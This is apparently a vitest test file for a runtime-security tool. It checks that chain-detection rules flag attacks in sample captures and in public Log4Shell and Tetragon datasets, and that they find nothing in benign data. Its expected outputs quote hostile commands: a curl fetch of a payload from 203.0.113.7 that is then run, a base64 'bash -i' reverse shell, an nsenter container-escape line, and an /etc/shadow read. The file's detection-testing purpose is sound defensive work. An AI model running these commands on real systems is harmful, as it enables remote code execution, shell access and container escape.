import { existsSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { pathLabels } from '../../src/chains/output/chain-format.js';
import type { ChainMatch } from '../../src/chains/run/chain-match.js';
import { captureFiles, HAVE_CAPTURES } from '../scap/shared-captures.js';
import { chainMatches, describeMatch } from './run-chains.js';

/**
 * The bundled chain rules on real data: the attacks in the bundled sample, the OTRF Log4Shell
 * dataset and Tetragon's privileged-pod escape are found with their lineage paths; every other
 * capture and dataset (benign activity) gives nothing.
 */

const DATASETS = fileURLToPath(new URL('../../../shared/datasets/', import.meta.url));
const HAVE_DATASETS = existsSync(DATASETS);
if (!HAVE_DATASETS || !HAVE_CAPTURES) console.warn(`SKIPPING chain tests on real data: ${DATASETS} or the captures are absent`);
const SAMPLES = fileURLToPath(new URL('../../samples/', import.meta.url));

const LOG4SHELL = join(DATASETS, 'otrf/log4shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json');
const TETRAGON_CH3 = join(DATASETS, 'tetragon/docs-sec-obs-ch3');

const paths = (m: ChainMatch | undefined): string[] => (m?.steps ?? []).map((s) => pathLabels(s.path).join(' → '));

function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true })
    .flatMap((e) => (e.isDirectory() ? filesUnder(join(dir, e.name)) : [join(dir, e.name)]))
    .sort();
}

describe('bundled chains on the bundled sample', () => {
  for (const sample of ['story.scap', 'story.jsonl']) {
    it(`finds the payload and the /etc/shadow read in samples/${sample}, with their paths`, async () => {
      const matches = await chainMatches([join(SAMPLES, sample)]);
      expect(matches.map(describeMatch)).toEqual([
        "Credential files read by a service's shell: shell=sh,4001 read=cat,4004",
        'Web service shell fetches and runs a payload: shell=sh,4001 fetch=curl,4002 run=x,4005',
      ]);
      expect(paths(matches[1])).toEqual(['nginx,2351 → sh,4001', 'sh,4001 → curl,4002', 'sh,4001 → x,4005']);
      expect(matches[1]?.containerId).toBe('3f9a1c0e2b7d');
      expect(matches[1]?.output).toContain('run=x exepath=/tmp/x fetch=curl -s -o /tmp/x http://203.0.113.7/x');
      expect(matches[1]?.output).toContain('service=nginx');
    });
  }
});

describe.skipIf(!HAVE_DATASETS)('bundled chains on real attack datasets', () => {
  it('finds the Log4Shell reverse shell: tomcat java → bash -c {echo,…}|{base64,-d}|{bash,-i} → bash -i', async () => {
    const matches = await chainMatches([LOG4SHELL]);
    expect(matches.map(describeMatch)).toEqual(['Reverse shell from an application runtime: runtime_shell=bash,17790 remote_shell=bash,17794']);
    expect(paths(matches[0])).toEqual(['java,1340 → bash,17790', 'bash,17790 → bash,17794']);
    expect(matches[0]?.steps[0]?.cmdline).toContain('{base64,-d}|{bash,-i}');
    expect(matches[0]?.outputFields['user.name']).toBe('tomcat');
  });

  it('finds the privileged pod’s nsenter escape in the Tetragon events', async () => {
    const matches = await chainMatches(filesUnder(TETRAGON_CH3).filter((f) => f.endsWith('.json')));
    expect(matches.map(describeMatch)).toEqual(['Container shell attempts an escape: shell=bash,17022 escape=nsenter,19009']);
    expect(matches[0]?.containerId).toBe('85f791fd8dfa');
    expect(matches[0]?.steps[1]?.cmdline).toBe('nsenter -t 1 -m -u -n -i -p bash');
  });
});

describe.skipIf(!HAVE_DATASETS || !HAVE_CAPTURES)('bundled chains on benign real data', () => {
  const attacks = new Set([LOG4SHELL]);
  // A skipped describe still runs this body to collect its tests: list nothing that is absent.
  const inputs = [
    ...captureFiles(),
    ...(HAVE_DATASETS ? filesUnder(DATASETS) : []).filter(
      (f) => !f.startsWith(TETRAGON_CH3) && !attacks.has(f) && !/\.(md|yaml)$/.test(f) && !f.includes('tracee-doc-samples') && statSync(f).size > 0,
    ),
  ];

  it('covers every capture and dataset file', () => {
    expect(inputs.length).toBeGreaterThan(40);
  });

  for (const input of inputs) {
    it(`finds no chain in ${input.slice(input.indexOf('shared/') + 7)}`, async () => {
      expect((await chainMatches([input])).map(describeMatch)).toEqual([]);
    });
  }
});
